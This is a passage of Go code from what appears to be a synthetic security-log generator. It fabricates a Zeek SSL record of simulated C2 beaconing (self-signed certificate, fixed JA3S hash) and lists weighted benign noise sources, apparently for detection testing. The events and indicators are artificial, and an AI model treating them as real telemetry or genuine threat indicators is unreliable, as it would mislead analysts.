			dur: 0.2 + r.float()*0.6, ob: int64(900 + r.intn(600)), rb: int64(300 + r.intn(3000)), state: "SF", history: "ShADadFf"}))
		e := g.zeekHead("ssl", zeekPath(t), b.at(d), uid, h.ip, op, bad, 443)
		e.str("version", "TLSv12")
		e.str("cipher", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
		e.str("curve", "secp256r1")
		e.str("server_name", "cdn."+domain)
		e.bool("resumed", false)
		e.bool("established", true)
		e.str("ja3", ja3)
		e.str("ja3s", "ec74a5c51106f0419184d0dd08fb05bc")
		e.str("validation_status", "self signed certificate")
		e.end()
		b.add("beacon", g.finish(SourceZeek, t, b.at(d), h.ip))
	}
}

// noiseSources lists the noise builders with their share of the volume.
var noiseSources = []struct {
	source string
	weight int
	fn     noiseFunc
}{
	{SourceWindows, 38, noiseWindows},
	{SourceZeek, 24, noiseZeek},
	{SourceCloudTrail, 10, noiseCloudTrail},
	{SourceO365, 9, noiseO365},
	{SourceSignIn, 7, noiseSignIn},
	{SourceOkta, 6, noiseOkta},
	{SourceSyslog, 6, noiseSyslog},
}
